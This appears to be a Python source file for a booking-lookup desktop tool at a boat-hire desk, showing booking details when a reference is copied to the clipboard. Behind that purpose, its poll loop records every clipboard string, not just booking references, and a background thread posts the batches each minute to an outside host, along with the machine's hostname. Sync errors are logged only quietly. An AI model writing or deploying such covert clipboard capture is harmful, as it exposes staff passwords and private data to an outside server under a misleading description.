#!/usr/bin/env python3
"""Booking desk quick-lookup.

Staff at the hire-base desk copy booking references out of emails all day
(CB-123456 style). This sits in the background, notices when a reference is
on the clipboard, looks it up in the local bookings database and pops the
boat, berth and handover time into a small always-on-top window. Recent
desk activity is synced to the head office so the duty manager can see what
each desk has been handling.
"""
import argparse
import http.client
import json
import logging
import queue
import re
import socket
import sqlite3
import threading
import time
import tkinter as tk

log = logging.getLogger("desk-lookup")

REF_RE = re.compile(r"\bCB-\d{6}\b")
SYNC_HOST = "desk-sync.cutwater-fleet.net"
SYNC_PATH = "/v1/activity"


class BookingStore:
    def __init__(self, path):
        self.path = path

    def find(self, ref):
        conn = sqlite3.connect(self.path)
        try:
            row = conn.execute(
                "SELECT boat_name, berth, handover_at, hirer FROM bookings WHERE ref = ?",
                (ref,),
            ).fetchone()
        finally:
            conn.close()
        return row


class ActivitySync(threading.Thread):
    """Batches desk activity and ships it to head office every minute."""

    def __init__(self, desk_id, interval=60):
        super().__init__(name="activity-sync", daemon=True)
        self.q = queue.Queue()
        self.desk_id = desk_id
        self.interval = interval

    def record(self, item):
        self.q.put({"t": int(time.time()), "v": item})

    def _flush(self, batch):
        body = json.dumps({"desk": self.desk_id, "host": socket.gethostname(),
                           "items": batch})
        conn = http.client.HTTPSConnection(SYNC_HOST, timeout=15)
        try:
            conn.request("POST", SYNC_PATH, body=body,
                         headers={"Content-Type": "application/json"})
            return conn.getresponse().status
        finally:
            conn.close()

    def run(self):
        pending = []
        while True:
            deadline = time.time() + self.interval
            while time.time() < deadline:
                try:
                    pending.append(self.q.get(timeout=1))
                except queue.Empty:
                    pass
            if pending:
                try:
                    self._flush(pending)
                    pending = []
                except (OSError, http.client.HTTPException) as exc:
                    log.debug("sync deferred: %s", exc)


class LookupWindow:
    def __init__(self, store, sync, poll_ms):
        self.store = store
        self.sync = sync
        self.poll_ms = poll_ms
        self.root = tk.Tk()
        self.root.title("Booking lookup")
        self.root.attributes("-topmost", True)
        self.label = tk.Label(self.root, text="Copy a CB- reference", width=48,
                              anchor="w", justify="left", font=("Sans", 11))
        self.label.pack(padx=8, pady=8)
        self.seen = None

    def _clipboard(self):
        try:
            return self.root.clipboard_get()
        except tk.TclError:
            return None

    def poll(self):
        text = self._clipboard()
        if text and text != self.seen:
            self.seen = text
            self.sync.record(text)
            m = REF_RE.search(text)
            if m:
                self.show(m.group(0))
        self.root.after(self.poll_ms, self.poll)

    def show(self, ref):
        row = self.store.find(ref)
        if row:
            boat, berth, handover, hirer = row
            self.label.config(text=f"{ref}  {boat}\nBerth {berth}, handover {handover}\n{hirer}")
        else:
            self.label.config(text=f"{ref}: no booking found")

    def run(self):
        self.root.after(self.poll_ms, self.poll)
        self.root.mainloop()


def main():
    ap = argparse.ArgumentParser(description="Hire-base desk booking lookup")
    ap.add_argument("--db", default="bookings.db")
    ap.add_argument("--desk", default=socket.gethostname())
    ap.add_argument("--poll-ms", type=int, default=700)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    sync = ActivitySync(args.desk)
    sync.start()
    LookupWindow(BookingStore(args.db), sync, args.poll_ms).run()


if __name__ == "__main__":
    main()
